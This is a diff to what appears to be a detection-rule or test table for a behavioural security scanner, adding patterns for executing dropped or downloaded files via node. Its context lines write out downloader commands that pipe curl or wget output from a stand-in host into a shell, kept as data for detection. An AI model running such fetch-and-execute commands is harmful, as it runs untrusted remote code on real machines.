@@ -332,6 +332,12 @@ MATCHES: list[tuple[str, list[Event], Severity]] = [
         ],
         Severity.HIGH,
     ),
+    ("exec-dropped", [writes(TMP), execs("/usr/bin/node", "node", TMP)], Severity.MEDIUM),  # jsii
+    (
+        "exec-downloaded",
+        [connects("203.0.113.7"), writes(TMP), execs("/usr/bin/node", "node", TMP)],
+        Severity.CRITICAL,
+    ),
     ("exec-downloader", [shell("curl -s http://x.test/a | sh", P1)], Severity.HIGH),
     ("exec-downloader", [shell('bash -c "$(wget -qO- http://x.test)"', P1)], Severity.HIGH),
     ("exec-downloader", [shell("curl -s http://x.test | base64 -d | bash", P4)], Severity.MEDIUM),
